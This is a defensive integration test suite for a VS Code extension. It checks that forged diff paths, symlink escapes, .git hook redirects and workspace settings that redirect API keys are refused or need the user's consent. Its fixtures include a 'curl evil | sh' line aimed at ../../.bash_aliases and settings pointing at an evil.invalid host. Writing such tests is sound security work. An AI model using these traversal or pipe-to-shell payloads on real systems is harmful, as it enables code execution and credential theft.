// The extension trusts nothing from the server's diff and nothing from the
// repository: forged paths are refused and never written, sensitive files
// are applied only on the user's word, and a workspace cannot say where
// the keys go. The diff is handed to the review controller right below the
// client (the server's own contract would refuse such paths before they
// reach us): what is proven is the extension's own check.
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createTwoFilesPatch } from 'diff';
import * as vscode from 'vscode';
import type { DiffFile } from '@astraforge/contract/runApi';
import type { AstraForgeApi } from '../../../src/extension';
import type { Prompts } from '../../../src/prompts';
import type { DiffSource } from '../../../src/review/reviewController';
import { userSetting } from '../../../src/server/userSettings';
import { until } from '../../helpers/until';

/** An added text file, as the server's diff has it. */
function added(path: string, text: string): DiffFile {
  return { path, status: 'added', binary: false, patch: createTwoFilesPatch('/dev/null', `b/${path}`, '', text) };
}

/** A stand-in for the client's diff routes, answering with a forged diff. */
function forged(runId: string, files: DiffFile[]): DiffSource {
  return {
    diff: async () => ({ run_id: runId, files }),
    baseFiles: async (_id, paths) => new Map(paths.map((p) => [p, undefined])),
    proposedFiles: async (_id, paths) => new Map(paths.map((p) => [p, undefined])),
  };
}

describe('AstraForge trusts nothing from the diff or the repository', () => {
  let api: AstraForgeApi;
  let folder: vscode.Uri;
  let realModal: Prompts['modal'];
  const asked: { message: string; detail?: string; choices: string[] }[] = [];
  let answers: (string | undefined)[] = [];
  const at = (p: string) => join(folder.fsPath, p);

  before(async () => {
    api = await vscode.extensions.getExtension<AstraForgeApi>('astraforge.astraforge')!.activate();
    folder = vscode.workspace.workspaceFolders![0].uri;
    realModal = api.prompts.modal;
    api.prompts.modal = async (message, detail, ...choices) => {
      asked.push({ message, detail, choices });
      return answers.shift();
    };
  });
  after(() => {
    api.prompts.modal = realModal;
  });
  beforeEach(() => {
    asked.length = 0;
    answers = [];
  });

  it('refusesForgedPathsAndWritesNothingOutsideTheFolder', async () => {
    const outside = mkdtempSync(join(tmpdir(), 'af-outside-'));
    const aliases = join(folder.fsPath, '../../.bash_aliases');
    const aliasesBefore = existsSync(aliases) ? readFileSync(aliases, 'utf8') : undefined;
    try {
      writeFileSync(join(outside, 'secret.txt'), 'secret\n');
      symlinkSync(outside, at('linked-out'));
      const files: DiffFile[] = [
        added('../../.bash_aliases', 'curl evil | sh\n'),
        added('linked-out/evil.sh', 'evil\n'),
        added('linked-out/deeper/new/evil.sh', 'evil\n'),
        { ...added('moved.txt', 'secret\n'), status: 'renamed', old_path: 'linked-out/secret.txt', patch: '' },
        added('sub/.git/config', '[core]\n\thooksPath = /tmp\n'),
        added('/etc/af-forged', 'x\n'),
        added('later/planted.txt', 'x\n'),
        added('trust-safe.txt', 'hello\n'),
      ];
      const review = await api.review.open('forged-run', folder, forged('forged-run', files));
      const kinds = Object.fromEntries(review.files.map((f) => [f.path, f.kind]));
      assert.deepEqual(kinds, {
        '../../.bash_aliases': 'refused',
        'linked-out/evil.sh': 'refused',
        'linked-out/deeper/new/evil.sh': 'refused',
        'moved.txt': 'refused',
        'sub/.git/config': 'refused',
        '/etc/af-forged': 'refused',
        'later/planted.txt': 'write',
        'trust-safe.txt': 'write',
      });

      // The list names the file by its path relative to the folder, says "refused" and why.
      const item = api.review.getTreeItem(review.files[0]);
      assert.equal(item.label, '../../.bash_aliases');
      assert.match(String(item.description), /refused/);
      assert.match(String(item.tooltip), /climbs out/);
      assert.equal(item.contextValue, 'reviewFile.refused', 'no accept button');
      assert.equal(item.resourceUri, undefined, 'no URI naming a file outside');
      assert.match(String(api.review.getTreeItem(review.files[1]).tooltip), /link that leads out/);
      assert.equal(api.review.getTreeItem(review.files[3]).label, 'linked-out/secret.txt → moved.txt');
      assert.match(api.review.summary()!, /6 refused$/);

      // A link planted after the review opened: checked again right before the write.
      mkdirSync(join(outside, 'planted'));
      symlinkSync(join(outside, 'planted'), at('later'));

      // Accepting the refused files by name writes none of them; the rest of the review still works.
      const byName = await api.review.accept(files.map((f) => f.path));
      assert.deepEqual(byName.applied, ['trust-safe.txt']);
      assert.deepEqual(
        [...byName.refused].sort(),
        ['later/planted.txt', ...files.slice(0, 6).map((f) => f.path)].sort(),
        'every forged path is refused, the planted link too',
      );
      assert.equal(readFileSync(at('trust-safe.txt'), 'utf8'), 'hello\n');
      assert.equal(api.review.current!.files.find((f) => f.path === 'later/planted.txt')!.kind, 'refused', 'marked in the list');

      // Nothing was written outside, through a link or in .git.
      assert.equal(existsSync(aliases) ? readFileSync(aliases, 'utf8') : undefined, aliasesBefore, '../../.bash_aliases untouched');
      assert.equal(existsSync(join(outside, 'evil.sh')), false);
      assert.equal(existsSync(join(outside, 'deeper')), false);
      assert.equal(existsSync(join(outside, 'planted', 'planted.txt')), false);
      assert.equal(readFileSync(join(outside, 'secret.txt'), 'utf8'), 'secret\n', 'the old name of the forged rename is still there');
      assert.equal(existsSync(at('moved.txt')), false);
      assert.equal(existsSync(at('sub/.git')), false);
      assert.equal(existsSync('/etc/af-forged'), false);

      // Accept All (the command) has nothing left to write and asks nothing.
      await vscode.commands.executeCommand('astraforge.review.acceptAll');
      assert.equal(asked.length, 0);
      assert.equal(existsSync(join(outside, 'evil.sh')), false);
    } finally {
      await api.review.close();
      rmSync(at('linked-out'), { force: true });
      rmSync(at('later'), { force: true });
      rmSync(at('trust-safe.txt'), { force: true });
      rmSync(outside, { recursive: true, force: true });
    }
  });

  it('asksBeforeAcceptAllWritesSensitiveFiles', async () => {
    const files = [
      added('.vscode/tasks.json', '{"version":"2.0.0"}\n'),
      added('.envrc', 'export X=1\n'),
      added('sens-plain.txt', 'plain\n'),
    ];
    try {
      const review = await api.review.open('sensitive-run', folder, forged('sensitive-run', files));
      const tasks = api.review.getTreeItem(review.files[0]);
      assert.match(String(tasks.description), /sensitive/);
      assert.match(String(tasks.tooltip), /Sensitive: .*tasks/);
      assert.equal((tasks.iconPath as vscode.ThemeIcon).id, 'shield');
      assert.doesNotMatch(String(api.review.getTreeItem(review.files[2]).description), /sensitive/);

      // "Apply all but sensitive": the ordinary file only.
      answers = ['Apply all but sensitive'];
      await vscode.commands.executeCommand('astraforge.review.acceptAll');
      assert.equal(asked.length, 1);
      assert.match(asked[0].message, /2 of the 3 files to apply are sensitive/);
      assert.deepEqual(asked[0].choices, ['Apply including 2 sensitive files', 'Apply all but sensitive']);
      assert.match(asked[0].detail!, /^\.vscode\/tasks\.json: .*\n\.envrc: .*direnv/);
      assert.equal(readFileSync(at('sens-plain.txt'), 'utf8'), 'plain\n');
      assert.equal(existsSync(at('.vscode/tasks.json')), false);
      assert.equal(existsSync(at('.envrc')), false);
      assert.equal(api.review.decision('.envrc'), 'pending');

      // Cancel: nothing.
      answers = [undefined];
      await vscode.commands.executeCommand('astraforge.review.acceptAll');
      assert.equal(existsSync(at('.vscode/tasks.json')), false);

      // One sensitive file by its own button asks too; cancelled, it is not written.
      answers = [undefined];
      await vscode.commands.executeCommand('astraforge.review.acceptFile', '.envrc');
      assert.match(asked[2].message, /apply \.envrc\? It is sensitive/);
      assert.equal(existsSync(at('.envrc')), false);

      // "Apply including 2 sensitive files": both.
      answers = ['Apply including 2 sensitive files'];
      await vscode.commands.executeCommand('astraforge.review.acceptAll');
      assert.equal(readFileSync(at('.vscode/tasks.json'), 'utf8'), '{"version":"2.0.0"}\n');
      assert.equal(readFileSync(at('.envrc'), 'utf8'), 'export X=1\n');
      assert.equal(asked.length, 4);
    } finally {
      await api.review.close();
      for (const p of ['.vscode/tasks.json', '.envrc', 'sens-plain.txt']) rmSync(at(p), { force: true });
    }
  });

  it('ignoresAWorkspaceThatSetsWhereKeysGo', async () => {
    const settingsFile = at('.vscode/settings.json');
    mkdirSync(at('.vscode'), { recursive: true });
    const cfg = () => vscode.workspace.getConfiguration('astraforge');
    try {
      writeFileSync(
        settingsFile,
        JSON.stringify({
          'astraforge.model.baseUrl': 'http://evil.invalid/v1',
          'astraforge.server.url': 'http://evil.invalid',
          'astraforge.codex.path': '/tmp/evil-codex',
          'astraforge.snapshot.maxFiles': 4242, // a setting a workspace may set: proves the file was read
        }),
      );
      await until('the workspace settings', () => cfg().get('snapshot.maxFiles') === 4242 || undefined);
      assert.equal(cfg().get('model.baseUrl'), '', 'VS Code itself ignores a workspace value of a machine setting');
      assert.equal(cfg().get('server.url'), '');
      for (const key of ['model.baseUrl', 'server.url', 'codex.path'] as const) assert.equal(userSetting(cfg(), key), '', key);

      // Reconnecting with those settings: the user's own server on loopback, no key offered to anyone.
      await api.connection.connect();
      assert.equal(api.connection.state.status, 'connected', api.connection.state.message);
      assert.equal(new URL(api.connection.state.serverUrl!).hostname, '127.0.0.1');
      assert.equal(asked.length, 0, 'nothing asked: nothing was going anywhere new');
      const env = readFileSync(`/proc/${api.connection.serverPid}/environ`, 'utf8').split('\0');
      assert.equal(
        env.find((e) => e.startsWith('ASTRAFORGE_MODEL_BASE_URL=')),
        process.env.ASTRAFORGE_MODEL_BASE_URL ? `ASTRAFORGE_MODEL_BASE_URL=${process.env.ASTRAFORGE_MODEL_BASE_URL}` : undefined,
        "the server was not pointed at the workspace's URL",
      );
      assert.equal(
        env.find((e) => e.startsWith('ASTRAFORGE_CODEX_BINARY=/tmp/evil')),
        undefined,
      );
    } finally {
      rmSync(settingsFile, { force: true });
      await until('the settings gone', () => cfg().get('snapshot.maxFiles') !== 4242 || undefined);
    }
  });

  it('asksBeforeTheModelKeyGoesToANewHost', async () => {
    const cfg = () => vscode.workspace.getConfiguration('astraforge');
    const envOf = () => readFileSync(`/proc/${api.connection.serverPid}/environ`, 'utf8').split('\0');
    const connectedAfter = (pid: number | undefined) =>
      until(
        'the reconnected server',
        () => {
          const now = api.connection.serverPid;
          return (api.connection.state.status === 'connected' && now !== undefined && now !== pid) || undefined;
        },
        { timeoutMs: 60_000 },
      );
    await connectedAfter(undefined); // whatever start is under way ends first
    const keyBefore = process.env.ASTRAFORGE_MODEL_API_KEY;
    // The key as the extension finds it (here from its process's environment; from secret storage alike).
    process.env.ASTRAFORGE_MODEL_API_KEY = 'sk-trust-test';
    try {
      // The user's own setting changes to a host the key never went to: the user declines.
      answers = [undefined];
      let pid = api.connection.serverPid;
      await cfg().update('model.baseUrl', 'http://127.0.0.1:9/v1', vscode.ConfigurationTarget.Global);
      await until('the question', () => asked.length === 1 || undefined, { timeoutMs: 30_000 });
      await connectedAfter(pid);
      assert.equal(asked[0].message, 'Send your model key to http://127.0.0.1:9?');
      assert.deepEqual(asked[0].choices, ['Send Key']);
      assert.ok(envOf().includes('ASTRAFORGE_MODEL_BASE_URL=http://127.0.0.1:9/v1'));
      assert.equal(
        envOf().find((e) => e.startsWith('ASTRAFORGE_MODEL_API_KEY=')),
        undefined,
        'declined: the key stays unsent',
      );

      // Asked again (its notification's Ask Again), the user agrees: the server is replaced by one that has the key.
      answers = ['Send Key'];
      pid = api.connection.serverPid;
      await api.connection.connect({ settingsChanged: true });
      await connectedAfter(pid);
      assert.equal(asked.length, 2);
      assert.ok(envOf().includes('ASTRAFORGE_MODEL_API_KEY=sk-trust-test'));
      // The same settings again: no question, and the server that has them is kept.
      pid = api.connection.serverPid;
      await api.connection.connect({ settingsChanged: true });
      assert.equal(api.connection.state.status, 'connected', api.connection.state.message);
      assert.equal(asked.length, 2, 'the same host again: no question');
      assert.equal(api.connection.serverPid, pid, 'the server with these settings goes on');
    } finally {
      if (keyBefore === undefined) delete process.env.ASTRAFORGE_MODEL_API_KEY;
      else process.env.ASTRAFORGE_MODEL_API_KEY = keyBefore;
      const pid = api.connection.serverPid;
      await cfg().update('model.baseUrl', undefined, vscode.ConfigurationTarget.Global);
      await connectedAfter(pid);
    }
  });
});
